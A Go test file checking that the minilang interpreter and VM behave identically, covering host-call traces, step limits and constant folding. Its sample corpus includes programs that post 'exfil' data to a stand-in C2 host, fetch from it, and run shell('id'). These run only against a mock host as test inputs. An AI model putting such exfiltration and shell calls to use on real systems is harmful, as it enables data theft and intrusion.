package minilang

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
)

// traceHost wraps a Host recording every callback in order, so tests
// can assert that both engines drive the host identically.
type traceHost struct {
	inner Host
	calls []string
}

func (h *traceHost) ReadFile(p string) ([]byte, error) {
	h.calls = append(h.calls, "read:"+p)
	return h.inner.ReadFile(p)
}

func (h *traceHost) WriteFile(p string, d []byte) error {
	h.calls = append(h.calls, fmt.Sprintf("write:%s:%d", p, len(d)))
	return h.inner.WriteFile(p, d)
}

func (h *traceHost) DeleteFile(p string) error {
	h.calls = append(h.calls, "delete:"+p)
	return h.inner.DeleteFile(p)
}

func (h *traceHost) RenameFile(o, n string) error {
	h.calls = append(h.calls, "rename:"+o+":"+n)
	return h.inner.RenameFile(o, n)
}

func (h *traceHost) ListFiles(d string) ([]string, error) {
	h.calls = append(h.calls, "list:"+d)
	return h.inner.ListFiles(d)
}

func (h *traceHost) HTTPRequest(m, u string, b []byte) (int, []byte, error) {
	h.calls = append(h.calls, fmt.Sprintf("http:%s:%s:%d", m, u, len(b)))
	return h.inner.HTTPRequest(m, u, b)
}

func (h *traceHost) Shell(c string) (string, error) {
	h.calls = append(h.calls, "shell:"+c)
	return h.inner.Shell(c)
}

func (h *traceHost) Spin(ms int64) {
	h.calls = append(h.calls, fmt.Sprintf("spin:%d", ms))
	h.inner.Spin(ms)
}

func (h *traceHost) Hostname() string {
	h.calls = append(h.calls, "hostname")
	return h.inner.Hostname()
}

func (h *traceHost) Env(n string) string {
	h.calls = append(h.calls, "env:"+n)
	return h.inner.Env(n)
}

// enginePair is a tree-walker and a VM on identical (but separate)
// hosts, for lock-step differential execution. mi and mv are the
// hosts' backing stores, for tests that seed files or read back what
// a program wrote.
type enginePair struct {
	interp *Interp
	vm     *VM
	hi, hv *traceHost
	mi, mv *memHost
}

func newEnginePair(limits Limits) *enginePair {
	seed := func(h *memHost) {
		h.files["/data/a.txt"] = "alpha\nbeta"
		h.files["/data/b.txt"] = "gamma"
	}
	mi, mv := newMemHost(), newMemHost()
	seed(mi)
	seed(mv)
	hi := &traceHost{inner: mi}
	hv := &traceHost{inner: mv}
	return &enginePair{
		interp: NewInterp(hi, limits),
		vm:     NewVM(hv, limits),
		hi:     hi,
		hv:     hv,
		mi:     mi,
		mv:     mv,
	}
}

// runBoth executes src on both engines and fails the test on any
// observable divergence: error, stdout, variables, host-call trace,
// or usage counters. It returns the agreed stdout and error for
// callers asserting specific outcomes.
func (p *enginePair) runBoth(t *testing.T, src string) (string, error) {
	t.Helper()
	errI := p.interp.Run(src)
	errV := p.vm.Run(src)
	if fmt.Sprint(errI) != fmt.Sprint(errV) {
		t.Fatalf("error divergence on %q:\n  tree: %v\n  vm:   %v", src, errI, errV)
	}
	outI, outV := p.interp.TakeStdout(), p.vm.TakeStdout()
	if outI != outV {
		t.Fatalf("stdout divergence on %q:\n  tree: %q\n  vm:   %q", src, outI, outV)
	}
	if vi, vv := dumpVars(p.interp.Vars()), dumpVars(p.vm.Vars()); !reflect.DeepEqual(vi, vv) {
		t.Fatalf("vars divergence on %q:\n  tree: %v\n  vm:   %v", src, vi, vv)
	}
	if !reflect.DeepEqual(p.hi.calls, p.hv.calls) {
		t.Fatalf("host-call divergence on %q:\n  tree: %v\n  vm:   %v", src, p.hi.calls, p.hv.calls)
	}
	if p.interp.Counters() != p.vm.Counters() {
		t.Fatalf("counter divergence on %q:\n  tree: %+v\n  vm:   %+v", src, p.interp.Counters(), p.vm.Counters())
	}
	return outV, errV
}

// dumpVars renders a namespace kind-tagged so NaN compares equal to
// itself and Str("1") stays distinct from Number(1).
func dumpVars(vars map[string]Value) map[string]string {
	out := make(map[string]string, len(vars))
	for k, v := range vars {
		out[k] = dumpValue(v)
	}
	return out
}

func dumpValue(v Value) string {
	switch t := v.(type) {
	case List:
		parts := make([]string, len(t))
		for i, e := range t {
			parts[i] = dumpValue(e)
		}
		return "l:[" + strings.Join(parts, ",") + "]"
	default:
		return v.valueKind() + ":" + Format(v)
	}
}

// diffCorpus is the differential corpus: every language construct,
// every error class, folding-sensitive shapes, and host traffic. The
// step-limit sweep and the fuzz seeds reuse it.
var diffCorpus = []string{
	"x = 1 + 2 * 3\nprint(x)",
	`print("a" + "b", 1 < 2, [1, 2, 3])`,
	"print(-5 + 3)",
	"print(not 0, not [], not \"x\")",
	"n = spin(0)\nprint(1 == 1, 1 != 2, n == 3, n == n, str(n))",
	"x = [10, 20, 30]\nprint(x[0], x[-1], x[1 + 1])",
	"x = \"hello\"\nprint(x[1], x[-1])",
	"print([1,2][5])",
	"print(\"abc\"[-9])",
	"print([1][\"a\"])",
	"print(5[0])",
	"total = 0\nfor i in range(100)\ntotal = total + i\nend\nprint(total)",
	"a = 0\nb = 1\nn = 0\nwhile n < 20\nt = a + b\na = b\nb = t\nn = n + 1\nend\nprint(a)",
	"break",
	"if 1\nbreak\nend",
	"i = 0\nwhile 1\ni = i + 1\nif i > 3\nbreak\nend\nend\nprint(i)",
	"while 0\nshell(\"never\")\nend\nprint(\"after\")",
	"for x in [1, 2, 3]\nif x == 2\nbreak\nend\nprint(x)\nend\nprint(x)",
	"for ln in \"alpha\\nbeta\"\nprint(ln)\nend",
	"for ln in read_file(\"/data/a.txt\")\nprint(ln)\nend",
	"for x in 42\nprint(x)\nend",
	"if 1 > 2\nprint(\"no\")\nelse\nprint(\"yes\")\nend",
	"if 2 > 1\nprint(\"yes\")\nend",
	"if 0\nshell(\"dead\")\nelse\nprint(\"live\")\nend",
	"x = 0 and nope()\nprint(x)",
	"x = 1 or nope()\nprint(x)",
	"x = 1 and \"s\"\nprint(x)",
	"x = 0 or []\nprint(x)",
	"x = len(\"ab\") and 1 + 2\nprint(x)",
	"nope()",
	"len()",
	"len(1, 2)",
	"print(1 + \"a\")",
	"print([1] < [2])",
	"print(1 / 0)",
	"print(5 % 0)",
	"print(1 % 0.5)",
	"print(7 % -2.9, -7 % 2.9)",
	"print(7 % 3, 10 / 4)",
	"print(\"ab\" * 3)",
	"print(\"a\" * -1)",
	"print(nosuchvar)",
	"x = num(\"nan\")\nprint(x < 1, x > 1, x <= 1, x >= 1, x == x)",
	"print(num(\"3.5\") + num(\"  2 \"))",
	"print(num(\"bogus\"))",
	"x = [1, 2]\nx = append(x, 3)\nprint(x, len(x))",
	"print(join(split(\"a,b,c\", \",\"), \"-\"))",
	"print(contains(\"hay\", \"a\"), upper(\"ab\"), lower(\"AB\"))",
	"print(sha256(\"x\"))",
	"print(b64encode(\"hi\"), b64decode(\"aGk=\"))",
	"print(b64decode(\"!!!\"))",
	"c = encrypt(\"secret\", \"k\")\nprint(decrypt(c, \"k\"))",
	"print(str(3.5) + str([1, \"a\", [2]]))",
	"print(read_file(\"/data/a.txt\"))",
	"print(read_file(\"/missing\"))",
	"write_file(\"/tmp/x\", \"payload\")\nprint(read_file(\"/tmp/x\"))",
	"write_file(\"/tmp/y\", \"v\")\nrename_file(\"/tmp/y\", \"/tmp/z\")\ndelete_file(\"/tmp/z\")",
	"delete_file(\"/missing\")",
	"for f in list_files(\"/data\")\nprint(f)\nend",
	"print(http_get(\"http://c2.example/x\"))",
	"print(http_post(\"http://c2.example/x\", \"exfil\"))",
	"print(shell(\"id\"))",
	"spin(5)\nspin(3)",
	"print(hostname(), env(\"USER\"), env(\"NOPE\"))",
	"1 + 2\nprint(3)",
	"x = [1,\n2]\nprint(x)",
	"x = range(3)\nfor i in x\nfor j in x\nif j == 1\nbreak\nend\nprint(i, j)\nend\nend",
	"while 1\nbreak\nend\nprint(\"out\")",
	"x = 1\nwhile x < 100 and 1\nx = x * 2\nend\nprint(x)",
	"print(2 + 3 == 5 and (1 or 0))",
	"print(len(range(0)))",
	"range(-1)",
	"spin(0 - 4)",
}

func TestVMMatchesInterpOnCorpus(t *testing.T) {
	for _, src := range diffCorpus {
		p := newEnginePair(Limits{})
		p.runBoth(t, src)
	}
}

// TestVMSharedSessionState runs the whole corpus through ONE engine
// pair, so variables, stdout interleaving, and counters accumulate
// across Run calls exactly as kernel cells do.
func TestVMSharedSessionState(t *testing.T) {
	p := newEnginePair(Limits{})
	for _, src := range diffCorpus {
		p.runBoth(t, src)
	}
}

// TestVMStepLimitEquivalence is the limit-equivalence oracle: for
// budget-sensitive programs (loops, folded constants, host calls), an
// execution under EVERY step budget from 1 upward must produce the
// same outcome on both engines — same error (line included), same
// partial stdout, same host-call prefix. This pins that constant
// folding and instruction-cost batching charge exactly the ticks the
// interpreter does, at the same observable points.
func TestVMStepLimitEquivalence(t *testing.T) {
	progs := []string{
		"x = 1 + 2 * 3\ny = x + 1\nprint(y)",
		"total = 0\nfor i in range(5)\ntotal = total + i * 2\nend\nprint(total)",
		"i = 0\nwhile i < 4\ni = i + 1\nshell(\"tick\")\nend",
		"while 1\nspin(1)\nbreak\nend",
		"if 1 + 1 == 2\nwrite_file(\"/t\", \"a\" + \"b\")\nend\nprint(read_file(\"/t\"))",
		"x = 0\nwhile 1\nx = x + 1\nif x > 2\nbreak\nend\nend\nprint(x)",
		"for ln in \"a\\nb\\nc\"\nprint(ln, 1 * 2 + 3)\nend",
		"x = [1, 2, 3]\nprint(x[0 + 1], not 0 and 1)",
	}
	for _, src := range progs {
		sawLimit, sawOK := false, false
		for max := 1; max <= 150; max++ {
			p := newEnginePair(Limits{MaxSteps: max})
			_, err := p.runBoth(t, src)
			var rerr *RuntimeError
			if err == nil {
				sawOK = true
			} else if asRuntime(err, &rerr) && rerr.EName == "ResourceError" {
				sawLimit = true
			}
		}
		if !sawLimit || !sawOK {
			t.Fatalf("sweep of %q not discriminating: limit=%v ok=%v", src, sawLimit, sawOK)
		}
	}
}

func asRuntime(err error, out **RuntimeError) bool {
	r, ok := err.(*RuntimeError)
	if ok {
		*out = r
	}
	return ok
}

// TestVMOutputLimitEquivalence sweeps the stdout budget the same way.
func TestVMOutputLimitEquivalence(t *testing.T) {
	src := "for i in range(20)\nprint(\"line\", i)\nend\nprint(\"done\")"
	for max := 1; max <= 200; max += 3 {
		p := newEnginePair(Limits{MaxOutputBytes: max})
		p.runBoth(t, src)
	}
}

// compileFor compiles src on a fresh VM and returns the chunk, for
// structural assertions about the emitted bytecode.
func compileFor(t *testing.T, src string, limits Limits) (*VM, *chunk) {
	t.Helper()
	prog, err := Parse(src)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	vm := NewVM(newMemHost(), limits)
	return vm, compileProgram(vm, prog)
}

func countOps(ch *chunk, o op) int {
	n := 0
	for _, in := range ch.code {
		if in.op == o {
			n++
		}
	}
	return n
}

// countArith counts arithmetic operations of kind o, whether they
// survive as plain instructions or as the sub of a fused
// superinstruction.
func countArith(ch *chunk, o op) int {
	n := 0
	for _, in := range ch.code {
		if in.op == o || (in.op >= opBinLL && in.op <= opBinSt && in.sub == o) {
			n++
		}
	}
	return n
}

func TestConstantFoldingFoldsPureExpressions(t *testing.T) {
	// A pure literal expression folds to a single constant push; the
	// binary operators disappear from the instruction stream.
	_, ch := compileFor(t, "x = 1 + 2 * 3 - (4 / 2)", Limits{})
	if got := countOps(ch, opAdd) + countOps(ch, opMul) + countOps(ch, opSub) + countOps(ch, opDiv); got != 0 {
		t.Fatalf("pure arithmetic not folded: %d arith ops remain", got)
	}
	// The const push then fuses with the store into one conststore.
	if got := countOps(ch, opConst) + countOps(ch, opConstStr); got != 1 {
		t.Fatalf("want 1 const push, got %d", got)
	}
	// The fold preserves the tick cost of the original tree: 1 for
	// the statement plus 9 expression nodes (5 literals, 4 operators).
	var total int32
	for _, in := range ch.code {
		total += in.cost
	}
	if total != 10 {
		t.Fatalf("folded cost = %d, want 10", total)
	}
}

func TestConstantFoldingNeverFoldsSideEffects(t *testing.T) {
	// Expressions containing calls must keep their call instructions
	// even when wrapped in constant-looking arithmetic: builtins can
	// touch the host, and the folder must never elide or reorder
	// them. This is the regression guard for the folding pass.
	cases := []string{
		"x = 1 + len(shell(\"id\")) * 2",
		"x = spin(1) == spin(0)",
		"x = 1 and shell(\"id\")",
		"x = hostname() and 1",
	}
	for _, src := range cases {
		_, ch := compileFor(t, src, Limits{})
		if countOps(ch, opCall) == 0 {
			t.Fatalf("call folded away in %q", src)
		}
	}
	// And the calls actually execute, identically on both engines.
	p := newEnginePair(Limits{})
	p.runBoth(t, "x = 1 + len(shell(\"id\")) * 2\nprint(x)")
	if len(p.hi.calls) == 0 {
		t.Fatal("side effect elided: no host calls recorded")
	}
}

func TestConstantFoldingSkipsRuntimeErrors(t *testing.T) {
	// Operations that would error do not fold: the runtime must raise
	// them, at the right line, only if the code path executes.
	_, ch := compileFor(t, "x = 1 / 0", Limits{})
	if countArith(ch, opDiv) != 1 {
		t.Fatalf("1/0 must stay a runtime division, got %d div ops", countArith(ch, opDiv))
	}
	// Unexecuted erroring constant: dead branch, no error.
	p := newEnginePair(Limits{})
	if _, err := p.runBoth(t, "if 0\nx = 1 / 0\nend\nprint(\"ok\")"); err != nil {
		t.Fatalf("dead 1/0 raised: %v", err)
	}
}

func TestConstantBranchElimination(t *testing.T) {
	// `if 0` / `while 0` bodies are dead code: no instructions, and
	// in particular no call instructions, are emitted for them.
	_, ch := compileFor(t, "if 0\nshell(\"dead\")\nelse\nx = 1\nend\nwhile 0\nshell(\"dead2\")\nend", Limits{})
	if got := countOps(ch, opCall); got != 0 {
		t.Fatalf("dead branches kept %d calls", got)
	}
}

func TestBuiltinNamesMemoized(t *testing.T) {
	a := BuiltinNames()
	b := BuiltinNames()
	if len(a) == 0 || &a[0] != &b[0] {
		t.Fatal("BuiltinNames must return the memoized slice")
	}
	for i := 1; i < len(a); i++ {
		if a[i-1] >= a[i] {
			t.Fatalf("names not sorted: %q >= %q", a[i-1], a[i])
		}
	}
	if n := testing.AllocsPerRun(100, func() { BuiltinNames() }); n != 0 {
		t.Fatalf("BuiltinNames allocates %v per call after first use", n)
	}
}

func TestVMEngineContract(t *testing.T) {
	vm := NewVM(newMemHost(), Limits{})
	if err := vm.Run("x = 6 * 7\nprint(x)"); err != nil {
		t.Fatal(err)
	}
	if got := vm.TakeStdout(); got != "42\n" {
		t.Fatalf("stdout = %q", got)
	}
	if got := vm.Vars()["x"]; got != Number(42) {
		t.Fatalf("vars[x] = %v", got)
	}
	if vm.TakeStdout() != "" {
		t.Fatal("TakeStdout did not clear")
	}
}

func TestVMDeepNestingNearLimits(t *testing.T) {
	// A deeply right-nested arithmetic expression folds to one
	// constant whose cost equals the full tree; sweeping budgets near
	// that cost must agree with the interpreter on both sides of the
	// edge.
	src := "x = " + strings.Repeat("1 + (", 40) + "0" + strings.Repeat(")", 40)
	for max := 75; max <= 90; max++ {
		p := newEnginePair(Limits{MaxSteps: max})
		p.runBoth(t, src)
	}
}

func TestXorKeystreamInvalidUTF8(t *testing.T) {
	// encrypt output is raw bytes (almost never valid UTF-8); feeding
	// it back through decrypt and index/compare paths must agree
	// across engines byte-for-byte.
	p := newEnginePair(Limits{})
	p.runBoth(t, `c = encrypt("payload-bytes", "k1")
d = c + c
print(len(d), d[0] == d[len(c)])
print(decrypt(c, "k1"))
e = encrypt(c, "k2")
print(len(e), sha256(e))`)
}
